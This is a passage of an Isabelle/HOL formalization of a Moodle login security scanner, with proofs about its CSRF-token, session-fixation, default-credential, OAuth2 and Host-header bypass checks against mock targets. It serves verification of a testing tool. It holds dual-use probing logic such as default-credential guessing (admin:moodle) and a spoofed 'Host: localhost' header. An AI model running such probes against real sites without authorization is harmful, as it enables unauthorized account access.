       ''The system processed a login form with an empty token without reporting a token error.''
       ''Update to the latest Moodle version and ensure proper CSRF protection is configured.''"

definition empty_token_request :: "tester \<Rightarrow> request" where
  "empty_token_request s = POST (login_url s) (login_data ''admin'' ''wrongpassword'' [])"

definition test_csrf_token_weaknesses ::
  "env \<Rightarrow> tester \<Rightarrow> (exn + finding option) \<times> tester" where
  "test_csrf_token_weaknesses e s =
     (case session_request e s (GET (login_url s)) of
        (Inl x, s1) \<Rightarrow> (Inl x, s1)
      | (Inr r, s1) \<Rightarrow>
          if status_code r \<noteq> 200 then (Inr None, s1)
          else (case find_logintoken e (resp_text r) of
                  None \<Rightarrow> (Inr (Some csrf_missing_finding), s1)
                | Some token \<Rightarrow>
                    if length token < 20 then (Inr (Some (csrf_weak_finding (length token))), s1)
                    else (case session_request e (delay_sleep s1) (empty_token_request s1) of
                            (Inl x, s2) \<Rightarrow> (Inl x, s2)
                          | (Inr r2, s2) \<Rightarrow>
                              if contains (resp_text r2) ''username''
                                 \<and> \<not> contains (resp_text r2) ''Invalid token''
                              then (Inr (Some csrf_bypass_finding), s2)
                              else (Inr None, s2))))"

section \<open>test_session_fixation\<close>

definition session_fixation_finding :: "string \<Rightarrow> finding" where
  "session_fixation_finding pre =
     vuln ''Session Fixation Vulnerability''
       ''The Moodle installation does not change session cookies during login, making it vulnerable to session fixation attacks.''
       High
       (''Session cookie remains the same before and after login: '' @ pre)
       ''Update to the latest Moodle version and ensure session regeneration is configured properly.''"

text \<open>\<^verbatim>\<open>f"{v}"\<close> of a string or \<^verbatim>\<open>None\<close>.\<close>

definition format_opt :: "string option \<Rightarrow> string" where
  "format_opt v = (case v of None \<Rightarrow> ''None'' | Some x \<Rightarrow> x)"

definition test_session_fixation :: "env \<Rightarrow> tester \<Rightarrow> (exn + finding option) \<times> tester" where
  "test_session_fixation e s =
     (case session_request e s (GET (login_url s)) of
        (Inl x, s1) \<Rightarrow> (Inl x, s1)
      | (Inr r, s1) \<Rightarrow>
          if status_code r \<noteq> 200 then (Inr None, s1)
          else if \<not> jar_contains (cookies s1) ''MoodleSession'' then (Inr None, s1)
          else (case jar_get (cookies s1) ''MoodleSession'' of
                  Inl x \<Rightarrow> (Inl x, s1)
                | Inr pre_login_session \<Rightarrow>
                    if truthy (username s1) \<and> truthy (password s1) then
                      (let tok = logintoken_of e (resp_text r) in
                       case session_request e (delay_sleep s1)
                              (POST (login_url s1)
                                 (login_data (the (username s1)) (the (password s1)) tok)) of
                         (Inl x, s2) \<Rightarrow> (Inl x, s2)
                       | (Inr lr, s2) \<Rightarrow>
                           if contains (resp_url lr) ''/my/'' \<or> contains (resp_text lr) ''Dashboard''
                           then (case jar_get (cookies s2) ''MoodleSession'' of
                                   Inl x \<Rightarrow> (Inl x, s2)
                                 | Inr post_login_session \<Rightarrow>
                                     if pre_login_session = post_login_session
                                     then (Inr (Some (session_fixation_finding
                                                        (format_opt pre_login_session))), s2)
                                     else (Inr None, s2))
                           else (Inr None, s2))
                    else (Inr None, s1)))"

section \<open>run_tests\<close>

definition auth_ok_note :: "string \<Rightarrow> finding" where
  "auth_ok_note u =
     info_note ''Successful Authentication''
       (''Successfully authenticated with provided credentials ('' @ u @ '').'')"

definition weak_credentials_finding :: "credential \<Rightarrow> finding" where
  "weak_credentials_finding c =
     (vuln ''Weak Default Credentials''
        (''The Moodle installation uses common or default credentials: ''
           @ cred_username c @ '':'' @ cred_password c)
        Critical
        (''Successfully authenticated with '' @ cred_username c @ '':'' @ cred_password c
           @ '' ('' @ cred_description c @ '')'')
        ''Change default credentials and implement a strong password policy.'')
       \<lparr>cwe := Some ''CWE-521''\<rparr>"

definition no_vuln_note :: finding where
  "no_vuln_note =
     info_note ''Authentication Security''
       ''No authentication vulnerabilities were found during testing.''"

definition error_note :: "exn \<Rightarrow> finding" where
  "error_note x =
     info_note ''Authentication Testing Error''
       (''An error occurred during authentication testing: '' @ exn_str x)"

text \<open>\<^verbatim>\<open>v = check(); if v: results["vulnerabilities"].append(v)\<close>.\<close>

fun add_vuln :: "report \<Rightarrow> finding option \<Rightarrow> report" where
  "add_vuln res None = res"
| "add_vuln res (Some f) = res\<lparr>vulnerabilities := vulnerabilities res @ [f]\<rparr>"

text \<open>
  One check that may raise, followed by the rest of the \<^verbatim>\<open>try\<close> body: an exception
  leaves the body with the results gathered so far.
\<close>

definition and_then ::
  "(exn + finding option) \<times> tester \<Rightarrow> report
     \<Rightarrow> (report \<Rightarrow> tester \<Rightarrow> exn option \<times> report \<times> tester)
     \<Rightarrow> exn option \<times> report \<times> tester" where
  "and_then out res k =
     (case out of
        (Inl x, s') \<Rightarrow> (Some x, res, s')
      | (Inr v, s') \<Rightarrow> k (add_vuln res v) s')"

text \<open>The first step of the body: the credentials given to the tester, if any.\<close>

definition provided_credentials_step :: "env \<Rightarrow> tester \<Rightarrow> report \<Rightarrow> report \<times> tester" where
  "provided_credentials_step e s res =
     (if truthy (username s) \<and> truthy (password s) then
        (case test_authentication e s (the (username s)) (the (password s)) of
           (True, s') \<Rightarrow> (res\<lparr>info := info res @ [auth_ok_note (the (username s))]\<rparr>, s')
         | (False, s') \<Rightarrow> (res, s'))
      else (res, s))"

text \<open>The body of the \<^verbatim>\<open>try\<close>: the exception that left it, if one did, the results and
  the tester.\<close>

definition run_tests_try :: "env \<Rightarrow> tester \<Rightarrow> exn option \<times> report \<times> tester" where
  "run_tests_try e s =
     (case provided_credentials_step e s \<lparr>vulnerabilities = [], info = []\<rparr> of (res1, s1) \<Rightarrow>
      case test_common_credentials e s1 of (weak, s2) \<Rightarrow>
      and_then (test_oauth2_bypass e s2) (add_vuln res1 (map_option weak_credentials_finding weak))
        (\<lambda>res3 s3.
      case test_sql_injection_auth_bypass e s3 of (sql_vuln, s4) \<Rightarrow>
      and_then (test_password_reset_vulnerability e s4) (add_vuln res3 sql_vuln) (\<lambda>res5 s5.
      and_then (test_host_header_auth_bypass e s5) res5 (\<lambda>res6 s6.
      and_then (test_csrf_token_weaknesses e s6) res6 (\<lambda>res7 s7.
      and_then (test_session_fixation e s7) res7 (\<lambda>res8 s8.
        (None,
         if vulnerabilities res8 = [] then res8\<lparr>info := info res8 @ [no_vuln_note]\<rparr> else res8,
         s8)))))))"

text \<open>
  \<^verbatim>\<open>run_tests\<close>: the body under \<^verbatim>\<open>except Exception\<close>. The result is written as a
  sum, \<open>Inl\<close> for an exception that would leave \<^verbatim>\<open>run_tests\<close> itself.
\<close>

definition run_tests :: "env \<Rightarrow> tester \<Rightarrow> (exn + report) \<times> tester" where
  "run_tests e s =
     (case run_tests_try e s of
        (None, res, s') \<Rightarrow> (Inr res, s')
      | (Some x, res, s') \<Rightarrow> (Inr (res\<lparr>info := info res @ [error_note x]\<rparr>), s'))"

section \<open>Reading a run\<close>

text \<open>
  The tester a loop over credentials has reached after trying each tuple of a list in
  turn, and whether the call the loop makes next for a tuple succeeds.
\<close>

definition attempt :: "env \<Rightarrow> tester \<Rightarrow> credential \<Rightarrow> bool \<times> tester" where
  "attempt e s c = test_authentication e (delay_sleep s) (cred_username c) (cred_password c)"

fun after_attempts :: "env \<Rightarrow> tester \<Rightarrow> credential list \<Rightarrow> tester" where
  "after_attempts e s [] = s"
| "after_attempts e s (c # cs) = after_attempts e (snd (attempt e s c)) cs"

text \<open>
  The result of the weak-credentials check in the words of the specification: the first
  tuple of the list, in its order, for which the login attempt succeeds, else none. The
  attempt for the tuple at index \<open>i\<close> is made by the tester that has tried the tuples
  before it.
\<close>

definition first_success :: "env \<Rightarrow> tester \<Rightarrow> credential list \<Rightarrow> credential option" where
  "first_success e s cs =
     (case filter (\<lambda>i. fst (attempt e (after_attempts e s (take i cs)) (cs ! i))) [0..<length cs] of
        [] \<Rightarrow> None
      | i # _ \<Rightarrow> Some (cs ! i))"

text \<open>The tester right after the login page was fetched.\<close>

definition after_get :: "env \<Rightarrow> tester \<Rightarrow> tester" where
  "after_get e s = snd (session_request e s (GET (login_url s)))"

text \<open>
  Every request of a trace comes right after a sleep of the given length; the second
  argument is the event before the rest of the trace.
\<close>

fun sleeps_precede :: "real \<Rightarrow> event option \<Rightarrow> event list \<Rightarrow> bool" where
  "sleeps_precede d prev [] = True"
| "sleeps_precede d prev (Sleep x # tr) = sleeps_precede d (Some (Sleep x)) tr"
| "sleeps_precede d prev (Send rq # tr) =
     (prev = Some (Sleep d) \<and> sleeps_precede d (Some (Send rq)) tr)"

section \<open>Concrete targets\<close>

definition page :: "int \<Rightarrow> string \<Rightarrow> string \<Rightarrow> response" where
  "page st txt u = \<lparr>status_code = st, resp_text = txt, resp_url = u, jar_ops = []\<rparr>"

definition not_found :: "request \<Rightarrow> response" where
  "not_found rq = page 404 ''Not Found'' (req_url rq)"

text \<open>Stand-ins for the library calls: the token is whatever follows \<^verbatim>\<open>logintoken=\<close> at
  the start of a page, the digest is the name itself.\<close>

definition token_after_mark :: "string \<Rightarrow> string option" where
  "token_after_mark txt =
     (if startswith txt ''logintoken='' then Some (drop 11 txt) else None)"

definition target :: "(event list \<Rightarrow> request \<Rightarrow> (exn \<times> jar_op list) + response) \<Rightarrow> env" where
  "target srv =
     \<lparr>server = srv, find_logintoken = token_after_mark, md5_hexdigest = (\<lambda>u. u),
      quote_json_state = (\<lambda>u. u), query_has_state = (\<lambda>u. contains u ''state='')\<rparr>"

text \<open>A target no request reaches.\<close>

definition env_down :: env where
  "env_down = target (\<lambda>tr rq. Inl (ConnectionError ''connection refused'', []))"

text \<open>A target that answers 404 to everything.\<close>

definition env_404 :: env where
  "env_404 = target (\<lambda>tr rq. Inr (not_found rq))"

text \<open>
  A target whose admin page opens to \<^verbatim>\<open>Host: localhost\<close>, with the outcome of a request
  to the OAuth2 login page left open.
\<close>

definition env_host_bypass :: "(request \<Rightarrow> (exn \<times> jar_op list) + response) \<Rightarrow> env" where
  "env_host_bypass oauth =
     target (\<lambda>tr rq.
       if req_url rq = ''http://t/auth/oauth2/login.php'' then oauth rq
       else if req_url rq = ''http://t/admin/index.php'' \<and> headers rq = [(''Host'', ''localhost'')]
         then Inr (page 200 ''Site administration'' (req_url rq))
       else Inr (not_found rq))"

text \<open>The targets that answer every request with status 404.\<close>

definition answers_404 :: "env \<Rightarrow> bool" where
  "answers_404 e = (\<forall>tr rq. \<exists>r. server e tr rq = Inr r \<and> status_code r = 404)"

text \<open>
  The target with the open admin page, once with an OAuth2 login page that times out and
  once with none.
\<close>

definition env_bypass_oauth_down :: env where
  "env_bypass_oauth_down = env_host_bypass (\<lambda>rq. Inl (Timeout ''timed out'', []))"

definition env_bypass_oauth_404 :: env where
  "env_bypass_oauth_404 = env_host_bypass (\<lambda>rq. Inr (not_found rq))"

text \<open>A target with OAuth2 enabled and nothing else.\<close>

definition env_oauth :: env where
  "env_oauth =
     target (\<lambda>tr rq.
       if req_url rq = ''http://t/auth/oauth2/login.php''
       then Inr (page 200 ''Log in with OAuth 2'' (req_url rq))
       else Inr (not_found rq))"

text \<open>A target whose only account is admin with the password moodle.\<close>

definition env_admin_moodle :: env where
  "env_admin_moodle =
     target (\<lambda>tr rq.
       if req_url rq = ''http://t/login/index.php'' then
         (if meth rq = ''get'' then Inr (page 200 ''logintoken=0123456789abcdef0123456789abcdef'' (req_url rq))
          else if map_of (data rq) ''username'' = Some ''admin''
                  \<and> map_of (data rq) ''password'' = Some ''moodle''
            then Inr (page 200 ''Dashboard'' ''http://t/my/'')
          else Inr (page 200 ''Invalid login, please try again'' (req_url rq)))
       else Inr (not_found rq))"


text \<open>A target that sets the session cookie to one value on the login page and, after
  a login, to another.\<close>

definition env_session :: "string \<Rightarrow> string \<Rightarrow> env" where
  "env_session before after =
     target (\<lambda>tr rq.
       if req_url rq = ''http://t/login/index.php'' then
         (if meth rq = ''get''
          then Inr ((page 200 ''logintoken=tok'' (req_url rq))
                      \<lparr>jar_ops := [StoreCookie ''t.local'' ''/'' ''MoodleSession'' (Some before)]\<rparr>)
          else Inr ((page 200 ''Dashboard'' ''http://t/my/'')
                      \<lparr>jar_ops := [StoreCookie ''t.local'' ''/'' ''MoodleSession'' (Some after)]\<rparr>))
       else Inr (not_found rq))"

text \<open>Testers for the target \<^verbatim>\<open>http://t/\<close>: no credentials given, with and without a
  delay, and one with credentials.\<close>

definition tester0 :: tester where
  "tester0 = init_tester ''http://t/'' None None 0 []"

definition tester_delay :: tester where
  "tester_delay = init_tester ''http://t/'' None None 1 []"

definition tester_student :: tester where
  "tester_student = init_tester ''http://t/'' (Some ''student'') (Some ''secret'') 0 []"

section \<open>What the requests leave untouched\<close>

lemma delay_sleep_frame [simp]:
  "login_attempts (delay_sleep s) = login_attempts s"
  "max_attempts_per_account (delay_sleep s) = max_attempts_per_account s"
  "target_url (delay_sleep s) = target_url s"
  "username (delay_sleep s) = username s"
  "password (delay_sleep s) = password s"
  "version_info (delay_sleep s) = version_info s"
  "cookies (delay_sleep s) = cookies s"
  "delay (delay_sleep s) = delay s"
  by (simp_all add: delay_sleep_def)

lemma session_request_frame:
  "session_request e s rq = (out, s') \<Longrightarrow>
     login_attempts s' = login_attempts s \<and> max_attempts_per_account s' = max_attempts_per_account s
     \<and> target_url s' = target_url s"
  by (auto simp: session_request_def Let_def split: sum.splits)

lemma safe_request_frame:
  "safe_request e s rq = (out, s') \<Longrightarrow>
     login_attempts s' = login_attempts s \<and> max_attempts_per_account s' = max_attempts_per_account s
     \<and> target_url s' = target_url s"
  by (auto simp: safe_request_def split: prod.splits sum.splits dest!: session_request_frame)

lemma classify_login_frame:
  "classify_login e s r = (b, s') \<Longrightarrow>
     login_attempts s' = login_attempts s \<and> max_attempts_per_account s' = max_attempts_per_account s
     \<and> target_url s' = target_url s"
  by (auto simp: classify_login_def split: if_splits prod.splits option.splits
      dest!: safe_request_frame)

section \<open>The attempt budget\<close>

lemma test_authentication_empty: "test_authentication e s [] p = (False, s)"
  by (simp add: test_authentication_def)

lemma test_authentication_exhausted:
  "max_attempts_per_account s \<le> attempts s (md5_hexdigest e u) \<Longrightarrow>
     test_authentication e s u p = (False, s)"
  by (simp add: test_authentication_def Let_def)

lemma test_authentication_counts:
  assumes "test_authentication e s u p = (b, s')" and "u \<noteq> []"
  shows "max_attempts_per_account s' = max_attempts_per_account s
     \<and> attempts s' (md5_hexdigest e u) =
        (if attempts s (md5_hexdigest e u) \<ge> max_attempts_per_account s
         then attempts s (md5_hexdigest e u) else attempts s (md5_hexdigest e u) + 1)"
  using assms
  by (auto simp: test_authentication_def Let_def attempts_def
      split: if_splits prod.splits option.splits
      dest!: safe_request_frame classify_login_frame)

lemma test_authentication_counts_snd:
  assumes "u \<noteq> []"
  shows "max_attempts_per_account (snd (test_authentication e s u p)) = max_attempts_per_account s"
    and "attempts (snd (test_authentication e s u p)) (md5_hexdigest e u) =
        (if attempts s (md5_hexdigest e u) \<ge> max_attempts_per_account s
         then attempts s (md5_hexdigest e u) else attempts s (md5_hexdigest e u) + 1)"
  using test_authentication_counts[OF _ assms, of e s p "fst (test_authentication e s u p)"
      "snd (test_authentication e s u p)"]
  by simp_all

text \<open>
  Claim C4. With the budget of 3 attempts per account: \<^verbatim>\<open>test_authentication\<close> with an
  empty username returns false and leaves the tester as it was, so nothing is sent; once
  3 attempts are recorded for an account, a further call returns false and leaves the
  tester as it was, whatever the credentials; and three calls for one username record 3
  attempts, so that the fourth is such a call.
\<close>

theorem test_authentication_budget:
  assumes "max_attempts_per_account s = 3"
  shows "test_authentication e s [] p = (False, s)
    \<and> (3 \<le> attempts s (md5_hexdigest e u) \<longrightarrow> test_authentication e s u p = (False, s))
    \<and> (u \<noteq> [] \<longrightarrow>
         (let s3 = snd (test_authentication e
                      (snd (test_authentication e (snd (test_authentication e s u p1)) u p2)) u p3)
          in 3 \<le> attempts s3 (md5_hexdigest e u) \<and> test_authentication e s3 u p4 = (False, s3)))"
proof (intro conjI impI)
  show "test_authentication e s [] p = (False, s)" by (rule test_authentication_empty)
next
  assume "3 \<le> attempts s (md5_hexdigest e u)"
  with assms show "test_authentication e s u p = (False, s)"
    by (simp add: test_authentication_exhausted)
next
  assume u: "u \<noteq> []"
  define s1 where "s1 = snd (test_authentication e s u p1)"
  define s2 where "s2 = snd (test_authentication e s1 u p2)"
  define s3 where "s3 = snd (test_authentication e s2 u p3)"
  have m1: "max_attempts_per_account s1 = 3" and a1: "1 \<le> attempts s1 (md5_hexdigest e u)"
    using test_authentication_counts_snd[OF u, of e s p1] assms by (simp_all add: s1_def)
  have m2: "max_attempts_per_account s2 = 3" and a2: "2 \<le> attempts s2 (md5_hexdigest e u)"
    using test_authentication_counts_snd[OF u, of e s1 p2] m1 a1 by (simp_all add: s2_def)
  have m3: "max_attempts_per_account s3 = 3" and a3: "3 \<le> attempts s3 (md5_hexdigest e u)"
    using test_authentication_counts_snd[OF u, of e s2 p3] m2 a2 by (simp_all add: s3_def)
  have "test_authentication e s3 u p4 = (False, s3)"
    using m3 a3 by (simp add: test_authentication_exhausted)
  with a3 show "let s3 = snd (test_authentication e
                      (snd (test_authentication e (snd (test_authentication e s u p1)) u p2)) u p3)
          in 3 \<le> attempts s3 (md5_hexdigest e u) \<and> test_authentication e s3 u p4 = (False, s3)"
    by (simp add: s3_def s2_def s1_def Let_def)
qed

theorem test_authentication_budget_witness:
  "max_attempts_per_account tester0 = 3
   \<and> test_authentication env_404 tester0 [] ''x'' = (False, tester0)
   \<and> (let s3 = snd (test_authentication env_404
                      (snd (test_authentication env_404
                         (snd (test_authentication env_404 tester0 ''admin'' ''admin''))
                         ''admin'' ''password'')) ''admin'' ''Password123'')
          in 3 \<le> attempts s3 (md5_hexdigest env_404 ''admin'')
             \<and> test_authentication env_404 s3 ''admin'' ''moodle'' = (False, s3))"
proof -
  have m: "max_attempts_per_account tester0 = 3" by (simp add: tester0_def init_tester_def)
  show ?thesis
    using m test_authentication_budget[where s = tester0 and e = env_404 and p = "''x''"
        and u = "''admin''" and ?p1.0 = "''admin''" and ?p2.0 = "''password''"
        and ?p3.0 = "''Password123''" and ?p4.0 = "''moodle''"]
    by simp
qed

section \<open>The run as a whole\<close>

text \<open>
  Claim C1. For every environment and every tester, \<^verbatim>\<open>run_tests\<close> returns a report and
  raises nothing: when no exception leaves the body, the report is the body's results;
  when one does, the report is the results gathered so far with one more informational
  note, which describes the exception.
\<close>

theorem run_tests_returns_report:
  "\<exists>r. fst (run_tests e s) = Inr r
     \<and> (case fst (run_tests_try e s) of
          None \<Rightarrow> r = fst (snd (run_tests_try e s))
        | Some x \<Rightarrow> vulnerabilities r = vulnerabilities (fst (snd (run_tests_try e s)))
                   \<and> info r = info (fst (snd (run_tests_try e s))) @ [error_note x])"
  by (auto simp: run_tests_def split: prod.splits option.splits)

text \<open>The same for a tester with no credentials and a target that no request reaches.\<close>

theorem run_tests_returns_report_witness:
  "\<exists>r. fst (run_tests env_down tester0) = Inr r"
  using run_tests_returns_report[of env_down tester0] by blast

section \<open>The OAuth2 check\<close>

lemma startswith_nonempty: "startswith v (c # cs) \<Longrightarrow> v \<noteq> []"
  by (cases v) simp_all

text \<open>
  Claim C5. When the OAuth2 login page answers 200 with a body containing \<^verbatim>\<open>OAuth 2\<close>
  and the version given to the tester starts with 4.2 and is below 4.2.2 as a string,
  or starts with 4.1 and is below 4.1.5, or starts with 4.0 and is below 4.0.11, the
  check returns the Critical finding with CVE-2023-46806 for that version, and the one
  request it has sent is the request for the login page: no callback is tried.
\<close>

theorem oauth2_version_short_circuit:
  assumes reach: "server e (trace s) (GET (oauth_url s)) = Inr r"
      "status_code r = 200" "contains (resp_text r) ''OAuth 2''"
    and ver: "version_info s = Some vi" "vi ''version'' = Some v"
    and rule: "(startswith v ''4.2'' \<and> str_lt v ''4.2.2'')
             \<or> (startswith v ''4.1'' \<and> str_lt v ''4.1.5'')
             \<or> (startswith v ''4.0'' \<and> str_lt v ''4.0.11'')"
  shows "\<exists>f s'. test_oauth2_bypass e s = (Inr (Some f), s')
           \<and> f = oauth_version_finding v
           \<and> severity f = Critical \<and> cve f = Some ''CVE-2023-46806''
           \<and> trace s' = trace s @ [Send (GET (oauth_url s))]"
proof -
  from rule have ne: "v \<noteq> []" by (auto dest: startswith_nonempty)
  from rule have vuln: "version_vulnerable v" by (auto simp: version_vulnerable_def)
  from ver ne have kv: "known_version (snd (session_request e s (GET (oauth_url s)))) = Some v"
    using reach(1) by (simp add: known_version_def session_request_def Let_def)
  show ?thesis
    using reach kv vuln
    by (simp add: test_oauth2_bypass_def session_request_def Let_def oauth_version_finding_def)
qed

theorem oauth2_version_short_circuit_witness:
  "\<exists>f s'. test_oauth2_bypass env_oauth (set_version_info tester0 [''version'' \<mapsto> ''4.1.3''])
             = (Inr (Some f), s')
     \<and> f = oauth_version_finding ''4.1.3''
     \<and> severity f = Critical \<and> cve f = Some ''CVE-2023-46806''
     \<and> trace s' = [Send (GET ''http://t/auth/oauth2/login.php'')]"
proof -
  let ?s = "set_version_info tester0 [''version'' \<mapsto> ''4.1.3'']"
  let ?r = "page 200 ''Log in with OAuth 2'' ''http://t/auth/oauth2/login.php''"
  have u: "oauth_url ?s = ''http://t/auth/oauth2/login.php''"
    by (simp add: oauth_url_def set_version_info_def tester0_def init_tester_def rstrip_slash_def)
  have t: "trace ?s = []"
    by (simp add: set_version_info_def tester0_def init_tester_def)
  have a: "server env_oauth (trace ?s) (GET (oauth_url ?s)) = Inr ?r"
    unfolding u by (simp add: env_oauth_def target_def GET_def)
  have b: "status_code ?r = 200" by (simp add: page_def)
  have c: "contains (resp_text ?r) ''OAuth 2''" by (simp add: page_def)
  have d: "version_info ?s = Some [''version'' \<mapsto> ''4.1.3'']"
    by (simp add: set_version_info_def)
  have f: "[''version'' \<mapsto> ''4.1.3''] ''version'' = Some ''4.1.3''" by simp
  have g: "(startswith ''4.1.3'' ''4.2'' \<and> str_lt ''4.1.3'' ''4.2.2'')
         \<or> (startswith ''4.1.3'' ''4.1'' \<and> str_lt ''4.1.3'' ''4.1.5'')
         \<or> (startswith ''4.1.3'' ''4.0'' \<and> str_lt ''4.1.3'' ''4.0.11'')" by simp
  show ?thesis
    using oauth2_version_short_circuit[OF a b c d f g] unfolding u t by simp
qed

section \<open>The CSRF token check\<close>









section \<open>The session fixation check\<close>





text \<open>
  Two runs of the check outside those conditions. A session cookie given to the
  constructor and one set by the target are two cookies of the name: the jar's
  \<^verbatim>\<open>get\<close> raises. A session cookie with an empty value counts as absent: the check
  stops after the login page.
\<close>

lemma session_fixation_two_cookies:
  "fst (test_session_fixation (env_session ''abc123'' ''abc123'')
          (init_tester ''http://t/'' (Some ''student'') (Some ''secret'') 0
             [(''MoodleSession'', ''abc123'')]))
     = Inl (CookieConflictError
         (''There are multiple cookies with name, '' @ str_repr ''MoodleSession''))"
  by code_simp

lemma session_fixation_empty_cookie:
  "fst (test_session_fixation (env_session [] []) tester_student) = Inr None
   \<and> trace (snd (test_session_fixation (env_session [] []) tester_student))
       = [Send (GET ''http://t/login/index.php'')]"
  by code_simp

section \<open>A target that answers 404 to everything\<close>

lemma session_request_404:
  assumes "answers_404 e"
  shows "\<exists>r s'. session_request e s rq = (Inr r, s') \<and> status_code r = 404
           \<and> trace s' = trace s @ [Send rq] \<and> target_url s' = target_url s
           \<and> username s' = username s \<and> password s' = password s \<and> delay s' = delay s"
proof -
  from assms obtain r where "server e (trace s) rq = Inr r" "status_code r = 404"
    unfolding answers_404_def by blast
  then show ?thesis by (simp add: session_request_def Let_def)
qed

lemma safe_request_404:
  assumes "answers_404 e"
  shows "\<exists>r s'. safe_request e s rq = (Some r, s') \<and> status_code r = 404"
  using session_request_404[OF assms, of "delay_sleep s" rq]
  by (auto simp: safe_request_def)

lemma test_authentication_404:
  assumes "answers_404 e"
  shows "fst (test_authentication e s u p) = False"
proof -
  have "fst (case safe_request e s' rq of
               (None, s2) \<Rightarrow> (False, s2)
             | (Some r, s2) \<Rightarrow> if \<not> resp_ok r \<or> status_code r \<noteq> 200 then (False, s2) else k r s2)
        = False" for s' rq k
    using safe_request_404[OF assms, of s' rq] by auto
  then show ?thesis
    by (simp add: test_authentication_def Let_def)
qed

lemma common_credentials_loop_404:
  assumes "answers_404 e"
  shows "fst (common_credentials_loop e s cs) = None"
proof (induction cs arbitrary: s)
  case Nil
  show ?case by simp
next
  case (Cons c cs)
  obtain b s' where a: "test_authentication e (delay_sleep s) (cred_username c) (cred_password c)
      = (b, s')" by (cases "test_authentication e (delay_sleep s) (cred_username c) (cred_password c)")
  with test_authentication_404[OF assms, of "delay_sleep s" "cred_username c" "cred_password c"]
  have "b = False" by simp
  with a Cons.IH show ?case by simp
qed

lemma sql_injection_loop_404:
  assumes "answers_404 e"
  shows "fst (sql_injection_loop e s pls) = None"
proof (induction pls arbitrary: s)
  case Nil
  show ?case by simp
next
  case (Cons pl pls)
  obtain b s' where a: "test_authentication e (delay_sleep s) (pl_username pl) (pl_password pl)
      = (b, s')" by (cases "test_authentication e (delay_sleep s) (pl_username pl) (pl_password pl)")
  with test_authentication_404[OF assms, of "delay_sleep s" "pl_username pl" "pl_password pl"]
  have "b = False" by simp
  with a Cons.IH show ?case by simp
qed

lemma test_oauth2_bypass_404:
  assumes "answers_404 e"
  shows "fst (test_oauth2_bypass e s) = Inr None"
  using session_request_404[OF assms, of s "GET (oauth_url s)"]
  by (auto simp: test_oauth2_bypass_def)

lemma test_password_reset_404:
  assumes "answers_404 e"
  shows "test_password_reset_vulnerability e s
           = (Inr None, snd (session_request e s (GET (reset_url s))))"
  using session_request_404[OF assms, of s "GET (reset_url s)"]
  by (auto simp: test_password_reset_vulnerability_def)

lemma host_header_loop_404:
  assumes "answers_404 e"
  shows "fst (host_header_loop e s hss) = Inr None"
proof (induction hss arbitrary: s)
  case Nil
  show ?case by simp
next
  case (Cons hs hss)
  from session_request_404[OF assms, of "delay_sleep s" "(GET (admin_url s))\<lparr>headers := hs\<rparr>"]
  obtain r s' where "session_request e (delay_sleep s) ((GET (admin_url s))\<lparr>headers := hs\<rparr>)
      = (Inr r, s')" "status_code r = 404" by blast
  with Cons.IH show ?case by simp
qed

lemma test_csrf_404:
  assumes "answers_404 e"
  shows "test_csrf_token_weaknesses e s = (Inr None, after_get e s)"
  using session_request_404[OF assms, of s "GET (login_url s)"]
  by (auto simp: test_csrf_token_weaknesses_def after_get_def)

lemma test_session_fixation_404:
  assumes "answers_404 e"
  shows "test_session_fixation e s = (Inr None, after_get e s)"
  using session_request_404[OF assms, of s "GET (login_url s)"]
  by (auto simp: test_session_fixation_def after_get_def)

lemma trace_after_get:
  "trace (after_get e s) = trace s @ [Send (GET (login_url s))]"
  by (simp add: after_get_def session_request_def Let_def split: sum.splits)

lemma and_then_Inr: "and_then (Inr v, s') res k = k (add_vuln res v) s'"
  by (simp add: and_then_def)

lemma run_tests_try_404:
  assumes "answers_404 e" and "\<not> (truthy (username s) \<and> truthy (password s))"
  shows "\<exists>s6. run_tests_try e s =
           (None, \<lparr>vulnerabilities = [], info = [no_vuln_note]\<rparr>, after_get e (after_get e s6))"
proof -
  obtain s2 where cc: "test_common_credentials e s = (None, s2)"
    using common_credentials_loop_404[OF assms(1), of s test_credentials]
    by (cases "test_common_credentials e s") (simp add: test_common_credentials_def)
  obtain s3 where oa: "test_oauth2_bypass e s2 = (Inr None, s3)"
    using test_oauth2_bypass_404[OF assms(1), of s2] by (cases "test_oauth2_bypass e s2") simp
  obtain s4 where sq: "test_sql_injection_auth_bypass e s3 = (None, s4)"
    using sql_injection_loop_404[OF assms(1), of s3 sql_injection_payloads]
    by (cases "test_sql_injection_auth_bypass e s3") (simp add: test_sql_injection_auth_bypass_def)
  define s5 where "s5 = snd (session_request e s4 (GET (reset_url s4)))"
  have pr: "test_password_reset_vulnerability e s4 = (Inr None, s5)"
    by (simp add: s5_def test_password_reset_404[OF assms(1)])
  obtain s6 where hh: "test_host_header_auth_bypass e s5 = (Inr None, s6)"
    using host_header_loop_404[OF assms(1), of s5 test_headers]
    by (cases "test_host_header_auth_bypass e s5") (simp add: test_host_header_auth_bypass_def)
  have pc: "provided_credentials_step e s res = (res, s)" for res
    using assms(2) unfolding provided_credentials_step_def by (rule if_not_P)
  have "run_tests_try e s =
      (None, \<lparr>vulnerabilities = [], info = [no_vuln_note]\<rparr>, after_get e (after_get e s6))"
    by (simp add: run_tests_try_def pc cc oa sq pr hh and_then_Inr
        test_csrf_404[OF assms(1)] test_session_fixation_404[OF assms(1)])
  then show ?thesis by blast
qed

lemma answers_404_env_404: "answers_404 env_404"
  by (simp add: answers_404_def env_404_def target_def not_found_def page_def)

lemma sleeps_precede_two_sends: "\<not> sleeps_precede d p (tr @ [Send a, Send b])"
  by (induction tr arbitrary: p) (auto split: event.splits elim: sleeps_precede.elims)

section \<open>The notes of a report\<close>

lemma info_add_vuln [simp]: "info (add_vuln res v) = info res"
  by (cases v) simp_all

lemma provided_credentials_step_info:
  "provided_credentials_step e s \<lparr>vulnerabilities = [], info = []\<rparr> = (res, s') \<Longrightarrow>
     no_vuln_note \<notin> set (info res)"
  by (auto simp: provided_credentials_step_def auth_ok_note_def no_vuln_note_def info_note_def
      split: if_splits prod.splits bool.splits)

lemma run_tests_try_None:
  assumes "run_tests_try e s = (None, res, s')"
  shows "count_list (info res) no_vuln_note = (if vulnerabilities res = [] then 1 else 0)"
  using assms
  by (auto simp: run_tests_try_def and_then_def count_list_0_iff
      split: prod.splits sum.splits if_splits dest!: provided_credentials_step_info)

text \<open>
  Claim C3, as amended. In a run whose body no exception leaves, a report with no
  vulnerability holds the note that none was found exactly once. (When an exception
  leaves the body, the handler adds the error note and the other note is never added:
  see the counterexample.)
\<close>

theorem no_vulnerability_note:
  assumes "fst (run_tests_try e s) = None" and "fst (run_tests e s) = Inr r"
    and "vulnerabilities r = []"
